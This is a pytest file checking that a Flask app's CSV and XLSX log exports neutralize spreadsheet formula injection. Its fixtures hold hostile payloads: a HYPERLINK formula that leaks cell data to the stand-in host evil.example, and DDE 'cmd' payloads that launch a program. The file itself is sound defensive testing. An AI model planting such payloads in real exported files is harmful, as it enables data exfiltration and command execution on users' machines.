"""Issue 10: exported cells that start with = + - @ tab or CR never become live formulas (OWASP
"CSV injection"). The attack: an announcement titled ``=HYPERLINK(…)`` became a clickable
formula in the officers' XLSX and CSV. The files are read back as a spreadsheet would."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from broadcaster.models import Announcement, Campaign, Site
from web.exports.tables import csv_chunks, neutralize, xlsx_bytes

PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "site": "+cmd|' /C calc'!A0",
    "campaign": "@SUM(1+1)*cmd|' /C calc'!A0",
}
COLUMNS = {"title": 3, "site": 1, "campaign": 5}


@pytest.fixture
def poisoned(db: sessionmaker[Session], seeded_sqlite: object) -> None:
    """Names an editor or an admin could type, in the rows the exports show."""
    with db() as s, s.begin():
        for ann in s.scalars(select(Announcement)):
            ann.title = PAYLOADS["title"]
        for site in s.scalars(select(Site)):
            site.name = PAYLOADS["site"]
        for camp in s.scalars(select(Campaign)):
            camp.name = PAYLOADS["campaign"]


def test_csv_export_neutralizes_formulas(officer: FlaskClient, poisoned: None) -> None:
    r = officer.get("/logs/export.csv")
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) > 2
    for row in rows[1:]:
        assert row[COLUMNS["title"]] == "'" + PAYLOADS["title"]
        assert row[COLUMNS["site"]] == "'" + PAYLOADS["site"]
    assert any(row[COLUMNS["campaign"]] == "'" + PAYLOADS["campaign"] for row in rows[1:])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_export_has_text_cells_not_formulas(officer: FlaskClient, poisoned: None) -> None:
    r = officer.get("/logs/export.xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    titles = {c.value for c in cells if c.column == COLUMNS["title"] + 1}
    assert titles == {"'" + PAYLOADS["title"]}
    ids = [c for c in cells if c.column == 5]  # the announcement id stays a number
    assert ids and all(isinstance(c.value, int) and c.data_type == "n" for c in ids)


def test_every_dangerous_start_is_neutralized_and_numbers_stay_numbers() -> None:
    starts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "bình thường", ""]
    row = [*starts, -5, 2.5]
    data = xlsx_bytes([("Trang", ["A"] * len(row), [row])])
    ws = load_workbook(io.BytesIO(data)).active
    values = [c.value for c in ws[2]]
    types = [c.data_type for c in ws[2]]
    expected = ["'" + s for s in starts[:6]] + ["bình thường", None, -5, 2.5]
    expected[5] = "'\n=1+1"  # XML reads a lone CR back as LF
    assert values == expected
    assert "f" not in types and types[-2:] == ["n", "n"]
    text = "".join(csv_chunks(["A"] * len(row), [row])).lstrip("\ufeff")
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells == ["'" + s for s in starts[:6]] + ["bình thường", "", "-5", "2.5"]
    assert neutralize("=x") == "'=x" and neutralize("x=") == "x="
